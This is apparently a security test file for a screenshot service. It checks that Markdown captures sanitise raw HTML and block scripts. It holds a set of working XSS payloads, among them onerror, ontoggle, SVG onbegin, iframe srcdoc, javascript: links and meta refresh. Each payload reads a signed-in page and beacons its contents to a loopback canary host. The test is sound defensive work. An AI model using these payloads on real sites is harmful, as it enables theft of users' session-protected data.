/**
 * A Markdown capture runs no script of the document's, whatever raw HTML it holds (docs/api.md,
 * "HTML and Markdown"; src/adapters/browser/page/in-page/markdown-page.ts), through the HTTP
 * surface: each hostile piece of raw HTML is captured at a `base_url` on a local origin with the
 * caller's cookies, headers and HTTP credentials, the setting where a script could read the
 * signed-in origin and send it out. A canary on loopback, allowlisted so that anything the page
 * sent would reach it, records every request: it sees the plain images the documents load, and
 * nothing else. A control shows the same pieces do call it where scripts run (an `html`
 * capture), and each of the two layers is shown to hold alone (the page sent as `html` without
 * the other one), and with `styles`, which turns the page's policy off. Then what the sanitiser
 * keeps and drops, read back from the rendered DOM: ordinary GFM with its usual raw HTML stays.
 */
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { PNG } from 'pngjs';
import { markdownPage } from '../../src/adapters/browser/page/in-page/markdown-page.ts';
import type { CaptureAnswer } from '../../src/domain/captures/capture-answer.ts';
import { newApiKey } from '../helpers/accounts.ts';
import { startApp, type TestApp } from '../helpers/app.ts';
import { type FixtureSite, pngPixel, sleep, startSite } from '../helpers/fixtures.ts';

/** A 1x1 PNG, answered for every image the canary and the site are asked for. */
const PIXEL = (() => {
  const png = new PNG({ width: 1, height: 1 });
  png.data.set([0, 128, 0, 255]);
  return PNG.sync.write(png);
})();

/** What the signed-in origin keeps behind its cookie: what a script would send out. */
const SECRET = 'the-signed-in-secret';

/** One request the canary saw. */
interface Seen {
  path: string;
  url: string;
}

describe('a Markdown capture runs none of its scripts', () => {
  let t: TestApp;
  let site: FixtureSite;
  let canary: Server;
  let C = '';
  const seen: Seen[] = [];
  /** The cookie, extra header and credentials the site saw on its image requests. */
  const credentialed: string[] = [];
  let key = '';

  before(async () => {
    canary = createServer((req, res) => {
      const url = req.url ?? '/';
      seen.push({ path: url.split('?')[0] ?? url, url });
      if (url.endsWith('.css')) {
        res.writeHead(200, { 'content-type': 'text/css' }).end('main { background: #f0f; }');
      } else if (url.endsWith('.html')) {
        res.writeHead(200, { 'content-type': 'text/html' }).end('<p>framed</p>');
      } else {
        res.writeHead(200, { 'content-type': 'image/png' }).end(PIXEL);
      }
    });
    await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve));
    C = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
    // The signed-in origin: base_url stands here, and its private page answers the cookie.
    site = await startSite({
      '/private': (req, res) => {
        const signedIn = (req.headers.cookie ?? '').includes('session=s3');
        res
          .writeHead(signedIn ? 200 : 401, { 'content-type': 'text/plain' })
          .end(signedIn ? SECRET : 'no');
      },
      '/docs/pixel.png': (req, res) => {
        credentialed.push(
          `${req.headers.cookie ?? ''}|${req.headers['x-tenant'] ?? ''}|${req.headers.authorization ?? ''}`,
        );
        res.writeHead(200, { 'content-type': 'image/png' }).end(PIXEL);
      },
    });
    t = await startApp({
      db: 'sqlite',
      env: { EGRESS_ALLOWLIST: `${site.hostPort},127.0.0.1:${new URL(C).port}` },
      plans: { pro: { rate_per_minute: 1000 } },
    });
    key = await newApiKey(t, { plan: 'pro' });
  });
  after(async () => {
    await t?.close();
    await site?.close();
    canary?.closeAllConnections();
    canary?.close();
  });

  /**
   * A script that does what the review saw: reads the signed-in origin (relative to base_url)
   * and sends it out as an image request, which every layer but script blocking lets through.
   * No double quote and no ampersand, so it sits in any attribute as it is.
   */
  const leak = (name: string): string =>
    `fetch('/private').then(r => r.text()).then(s => { new Image().src = '${C}/beacon/${name}?' + s })` +
    `.catch(() => { new Image().src = '${C}/beacon/${name}' })`;

  /** The hostile raw HTML, one piece each; every request one of them causes is a beacon. */
  const hostile = (): [string, string][] => [
    ['img-onerror', `<img src="missing.png" onerror="${leak('img-onerror')}">`],
    [
      'details-ontoggle',
      `<details open ontoggle="${leak('details-ontoggle')}"><summary>more</summary>text</details>`,
    ],
    [
      'svg-animate',
      `<svg width="20" height="20"><rect width="20" height="20"><animate attributeName="x" from="0" to="5" dur="1s" onbegin="${leak('svg-animate')}"/></rect></svg>`,
    ],
    [
      'svg-set',
      `<svg width="20" height="20"><rect width="20" height="20"><set attributeName="x" to="1" onbegin="${leak('svg-set')}"/></rect></svg>`,
    ],
    ['iframe-srcdoc', `<iframe srcdoc="<script>${leak('iframe-srcdoc')}</script>"></iframe>`],
    ['script', `<script>${leak('script')}</script>`],
    ['javascript-link', `<a id="go" href="javascript:${leak('javascript-link')}">go</a>`],
    ['meta-refresh', `<meta http-equiv="refresh" content="0;url=${C}/beacon/meta-refresh">`],
    ['object', `<object data="${C}/beacon/object.html" type="text/html"></object>`],
    ['embed', `<embed src="${C}/beacon/embed.html" type="text/html">`],
    [
      'form-autofocus',
      `<form action="${C}/beacon/form-action"><input name="q" autofocus onfocus="${leak('form-autofocus')}"><button>go</button></form>`,
    ],
    ['body-onload', `<body onload="${leak('body-onload')}">`],
    // Styles may not load: the document's <style> is removed, and the policy takes no
    // stylesheet from anywhere (an @import is a request the document would choose).
    ['style-import', `<style>@import url("${C}/beacon/style-import.css");</style>`],
    ['link-stylesheet', `<link rel="stylesheet" href="${C}/beacon/link-stylesheet.css">`],
    // A <base> would move the relative image after it to the canary.
    ['base-href', `<base href="${C}/beacon/base-href/">\n\n![relative](relative.png)`],
  ];

  /** A Markdown document around one or more pieces, each a block of its own. */
  const around = (pieces: string[]): string =>
    `# Notes\n\nA paragraph.\n\n${pieces.join('\n\nbetween\n\n')}\n\nThe end.\n`;

  /** The caller's credentials for the signed-in origin, as the review's captures had them. */
  const signedIn = () => ({
    base_url: `${site.origin}/docs/`,
    cookies: [{ name: 'session', value: 's3' }],
    headers: { 'X-Tenant': 'acme' },
    http_auth: { username: 'user', password: 'pass' },
  });

  async function capture(json: Record<string, unknown>): Promise<CaptureAnswer> {
    const res = await t.fetch('/v1/screenshots', {
      method: 'POST',
      json: { width: 480, height: 360, ...json },
      headers: { 'x-api-key': key },
    });
    const text = await res.text();
    assert.equal(res.status, 201, text);
    return JSON.parse(text) as CaptureAnswer;
  }

  /** The beacons the canary saw since `from` (late events get a moment to arrive). */
  async function beaconsSince(from: number): Promise<string[]> {
    await sleep(300);
    return seen
      .slice(from)
      .filter((s) => s.path.startsWith('/beacon/'))
      .map((s) => s.url);
  }

  /** The <main> of a capture's hosted DOM (`content: ["html"]`). */
  async function renderedMain(answer: CaptureAnswer): Promise<string> {
    const res = await fetch(String(answer.content?.html));
    assert.equal(res.status, 200);
    const html = await res.text();
    const start = html.indexOf('<main>');
    assert.ok(start >= 0, html.slice(0, 500));
    return html.slice(start, html.lastIndexOf('</main>') + '</main>'.length);
  }

  it('control: the same pieces leak the signed-in origin where scripts run (html)', async () => {
    const from = seen.length;
    const pieces = hostile()
      .filter(([name]) => ['img-onerror', 'details-ontoggle', 'svg-set', 'script'].includes(name))
      .map(([, html]) => html);
    pieces.push(`<iframe srcdoc="<script>${leak('iframe-srcdoc')}</script>"></iframe>`);
    await capture({ html: `<!doctype html><body>${pieces.join('\n')}</body>`, ...signedIn() });
    const beacons = await beaconsSince(from);
    for (const name of ['img-onerror', 'details-ontoggle', 'script', 'iframe-srcdoc']) {
      assert.ok(
        beacons.includes(`/beacon/${name}?${SECRET}`),
        `${name} reached the canary with the secret: ${JSON.stringify(beacons)}`,
      );
    }
  });

  it('captures each piece as Markdown: the canary sees none, the document still renders', async () => {
    const from = seen.length;
    const titles: string[] = [];
    for (const [name, html] of hostile()) {
      const answer = await capture({
        markdown: around([html]),
        ...signedIn(),
        // The link is there for a click too: the caller's own click on it runs nothing.
        ...(name === 'javascript-link' ? { click: '#go' } : {}),
        metadata: true,
      });
      titles.push(`${name}: ${answer.metadata?.title}`);
    }
    assert.deepEqual(await beaconsSince(from), []);
    // The page stayed the rendered Markdown (a refresh or a <base> did not move it).
    assert.deepEqual(
      titles,
      hostile().map(([name]) => `${name}: Notes`),
    );
  });

  it('holds with the sanitiser alone: the page without its policy, and with styles', async () => {
    const from = seen.length;
    const all = hostile().map(([, html]) => html);
    // The policy left out of the page (sent as a document, which the browser shows as it is).
    const unprotected = markdownPage(around(all), { policy: false });
    assert.doesNotMatch(unprotected, /Content-Security-Policy/);
    const answer = await capture({ html: unprotected, ...signedIn(), content: ['html'] });
    const main = await renderedMain(answer);
    assert.match(main, /<h1>Notes<\/h1>/);
    assert.match(main, /The end\./);
    // `styles` turns Page.setBypassCSP on (the caller's CSS is not the page's to refuse), so a
    // Markdown capture with it has no policy in force either.
    await capture({ markdown: around(all), ...signedIn(), styles: 'main { color: #111; }' });
    assert.deepEqual(await beaconsSince(from), []);
  });

  it('holds with the policy alone: marked output inserted unsanitised runs nothing', async () => {
    const from = seen.length;
    // A meta refresh is a navigation, not a script: no policy stops it, the sanitiser does.
    const pieces = hostile()
      .filter(([name]) => name !== 'meta-refresh')
      .map(([, html]) => html);
    const unsanitised = markdownPage(around(pieces), { sanitise: false });
    const answer = await capture({ html: unsanitised, ...signedIn(), content: ['html'] });
    const main = await renderedMain(answer);
    // The handlers and the frame are in the DOM: only the policy stood in their way.
    assert.match(main, /onerror=/);
    assert.match(main, /ontoggle=/);
    assert.match(main, /srcdoc=/);
    assert.match(main, /<h1>Notes<\/h1>/);
    assert.deepEqual(await beaconsSince(from), []);
  });

  it('loads the plain images a document names, through the egress rules, with credentials', async () => {
    const from = seen.length;
    const before = credentialed.length;
    await capture({
      markdown: around([
        `![pixel](pixel.png)`,
        `<img src="${C}/plain.png" width="10" height="10">`,
      ]),
      ...signedIn(),
    });
    await sleep(200);
    const paths = seen.slice(from).map((s) => s.path);
    assert.ok(paths.length > 0 && paths.every((p) => p === '/plain.png'), paths.join(' '));
    const sent = credentialed.slice(before);
    assert.ok(sent.length > 0, 'the relative image loaded from base_url');
    for (const s of sent) assert.equal(s, 'session=s3|acme|Basic dXNlcjpwYXNz');
  });

  it('keeps ordinary GFM and its raw HTML; drops handlers, scripts, frames and the rest', async () => {
    const markdown = [
      '# Release notes',
      '| Area | Change |\n|---|---|\n| Capture | faster |',
      '- [x] done\n- [ ] open',
      '~~old~~ <kbd>Ctrl</kbd>+<kbd>C</kbd>, x<sup>2</sup>, H<sub>2</sub>O, <mark>new</mark>, <abbr title="HyperText Markup Language">HTML</abbr>, <ins>added</ins>',
      '<details>\n<summary>More</summary>\n\nHidden **text**\n\n</details>',
      '<p align="center"><img src="logo.png" alt="Logo" width="40" height="20"></p>',
      '<svg width="120" height="60" viewBox="0 0 120 60"><rect width="60" height="60" fill="#ff0000"/><circle cx="90" cy="30" r="20" fill="#0000ff"/><path d="M0 0L10 10" stroke="#000"/><text x="5" y="50">svg</text></svg>',
      '<span style="color: rgb(0, 128, 0)">green</span> <a href="https://example.com/">link</a> <a href="mailto:a@example.com">mail</a>',
      '<dl><dt>term</dt><dd>definition</dd></dl>',
      '```js\nconst a = "<b>not html</b>";\n```',
      ...hostile().map(([, html]) => html),
      '<a href="data:text/html,<script>alert(1)</script>">data link</a>',
      '<svg><a href="javascript:alert(1)"><text>svg link</text></a><use href="#x"/><foreignObject><p>fo</p></foreignObject></svg>',
    ].join('\n\n');
    const answer = await capture({ markdown, content: ['html'], width: 800, full_page: true });
    const main = await renderedMain(answer);
    // What survives: GFM and the usual raw HTML, as marked made it.
    for (const kept of [
      /<h1>Release notes<\/h1>/,
      /<table>[\s\S]*<th>Area<\/th>[\s\S]*<td>faster<\/td>/,
      /<input checked="" disabled="" type="checkbox">/,
      /<del>old<\/del>/,
      /<kbd>Ctrl<\/kbd>/,
      /<sup>2<\/sup>/,
      /<sub>2<\/sub>/,
      /<mark>new<\/mark>/,
      /<abbr title="HyperText Markup Language">HTML<\/abbr>/,
      /<ins>added<\/ins>/,
      /<details>\s*<summary>More<\/summary>[\s\S]*<strong>text<\/strong>/,
      /<p align="center"><img src="logo.png" alt="Logo" width="40" height="20"><\/p>/,
      /<svg width="120" height="60" viewBox="0 0 120 60"><rect width="60" height="60" fill="#ff0000"><\/rect><circle /,
      /<path d="M0 0L10 10"/,
      /<span style="color: rgb\(0, 128, 0\)">green<\/span>/,
      /<a href="https:\/\/example.com\/">link<\/a>/,
      /<a href="mailto:a@example.com">mail<\/a>/,
      /<dl><dt>term<\/dt><dd>definition<\/dd><\/dl>/,
      /<code class="language-js">const a = "&lt;b&gt;not html&lt;\/b&gt;";/,
      // The hostile pieces' harmless parts: the element, or its text, without what ran.
      /<img src="missing.png">/,
      /<details open="">/,
      /<a id="go">go<\/a>/,
      /<input name="q">/,
      /<button>go<\/button>/,
      /<a>data link<\/a>/,
    ]) {
      assert.match(main, kept);
    }
    // What goes: every handler and every element or URL that loads or runs something.
    for (const dropped of [
      /\son[a-z]+=/i,
      /<script/i,
      /<iframe/i,
      /srcdoc/i,
      /<object/i,
      /<embed/i,
      /<form/i,
      /<style/i,
      /<link/i,
      /<base/i,
      /<meta/i,
      /<body/i,
      /<animate/i,
      /<set/i,
      /<use/i,
      /<foreignobject/i,
      /javascript:/i,
      /data:text\/html/i,
      /autofocus/i,
      /beacon/i,
    ]) {
      assert.doesNotMatch(main, dropped);
    }
    // The SVG shape is drawn: pure red pixels in the image.
    const png = PNG.sync.read(Buffer.from(await (await fetch(answer.image_url)).arrayBuffer()));
    let red = 0;
    for (let y = 0; y < png.height; y += 2) {
      for (let x = 0; x < png.width; x += 2) {
        const [r, g, b] = pngPixel(png, x, y);
        if (r > 240 && g < 20 && b < 20) red++;
      }
    }
    assert.ok(red > 400, `the SVG's red square: ${red} sampled pixels`);
  });
});
